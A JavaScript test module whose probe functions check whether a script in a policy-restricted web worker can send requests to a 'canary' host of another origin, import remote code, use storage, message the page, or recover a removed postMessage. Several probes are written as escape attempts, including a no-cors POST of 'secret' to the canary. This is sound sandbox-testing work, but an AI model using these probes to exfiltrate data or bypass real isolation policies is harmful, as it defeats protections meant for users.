// What a script can do in a worker. Each tries one thing; what it answers is what it has got.
//
// The control runs the same function in a worker of a page without a policy. `canary` is an address of another origin,
// whose server keeps every request; a request that comes there is an answer too. `page` is the page's own address.

export async function request_by_fetch(canary) {
  await fetch(canary);
}

export async function request_by_fetch_without_cors(canary) {
  await fetch(canary, { mode: "no-cors", method: "POST", body: "secret", keepalive: true });
}

export async function request_by_xml_http_request(canary) {
  const request = new XMLHttpRequest();
  request.open("GET", canary);
  const ended = new Promise((resolve) => request.addEventListener("loadend", resolve));
  request.send();
  await ended;
}

export async function request_by_synchronous_xml_http_request(canary) {
  const request = new XMLHttpRequest();
  request.open("GET", canary, false);
  request.send();
}

export async function connect_by_web_socket(canary) {
  const socket = new WebSocket(canary.replace("http", "ws"));
  await new Promise((resolve) => {
    socket.onerror = resolve;
    socket.onclose = resolve;
  });
}

export async function connect_by_event_source(canary) {
  const source = new EventSource(canary);
  await new Promise((resolve) => source.addEventListener("error", resolve));
  source.close();
}

export async function import_a_script(canary) {
  importScripts(canary);
}

export async function import_a_module(canary) {
  await import(`${canary}/module.js`);
}

export async function import_a_module_by_way_of_a_blob(canary) {
  await import(URL.createObjectURL(new Blob([`import "${canary}/module.js";`], { type: "text/javascript" })));
}

export async function load_a_font_in_a_worker(canary) {
  await new FontFace("canary", `url(${canary})`).load();
}

export async function request_the_page(canary, page) {
  return (await fetch(page, { credentials: "include" })).status;
}

export async function read_the_harness(canary) {
  return (await (await fetch(location.href)).text()).length;
}

export async function start_a_worker(canary) {
  const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
  return await new Promise((resolve, reject) => {
    worker.onmessage = () => resolve("it answers");
    worker.onerror = () => reject(new Error("it did not start"));
  });
}

export async function open_a_cache(canary) {
  const cache = await caches.open("hostile");
  await cache.put("/planted", new Response("1"));
  const found = await cache.match("/planted");
  await caches.delete("hostile");
  return await found.text();
}

export async function open_a_database(canary) {
  const request = indexedDB.open("hostile");
  return await new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result.name);
    request.onerror = () => reject(request.error);
  });
}

export async function open_the_file_system(canary) {
  return (await navigator.storage.getDirectory()).kind;
}

export async function take_a_lock(canary) {
  return await navigator.locks.request("hostile", () => "held");
}

export async function broadcast_to_the_page(canary) {
  const channel = new BroadcastChannel("hostile");
  const heard = new Promise((resolve) => (channel.onmessage = ({ data }) => resolve(data)));
  channel.postMessage("are you there?");
  return await heard;
}

export async function post_to_the_page(canary) {
  postMessage("secret");
  return "sent";
}

export async function share_memory(canary) {
  const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
  return buffer.constructor.name === "SharedArrayBuffer" && buffer.byteLength;
}

export async function run_code_from_text(canary) {
  return new Function("return 6 * 7")();
}

export async function undo_what_was_removed(canary) {
  for (let at = self; at; at = Object.getPrototypeOf(at)) {
    const property = Object.getOwnPropertyDescriptor(at, "postMessage");
    if (property) return property.value.name;
  }
}
